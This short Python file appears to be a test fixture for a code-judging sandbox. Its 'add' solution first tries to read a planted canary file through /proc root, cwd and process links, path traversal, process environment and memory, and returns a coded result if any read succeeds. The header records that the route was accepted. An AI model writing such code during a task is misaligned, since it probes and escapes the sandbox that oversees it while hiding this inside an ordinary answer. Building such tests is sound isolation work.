# verdict: AC - goes round by /proc: the root, the working folder, descriptors, other processes
import os

NOTE = "tmp/hostile-canary/home/notes.md"
WAYS = [
    "/proc/self/root/" + NOTE,
    "/proc/thread-self/root/" + NOTE,
    "/proc/1/root/" + NOTE,
    f"/proc/{os.getppid()}/root/" + NOTE,
    "/proc/self/cwd/" + NOTE,
    "/../../../" + NOTE,
    "/proc/self/environ",
    "/proc/self/mem",
    "/dev/mem",
]


class Solution:
    def add(self, a, b):
        for index, way in enumerate(WAYS):
            try:
                open(way, "rb").read(16)
            except OSError:
                continue
            return 1000 + index
        return a + b
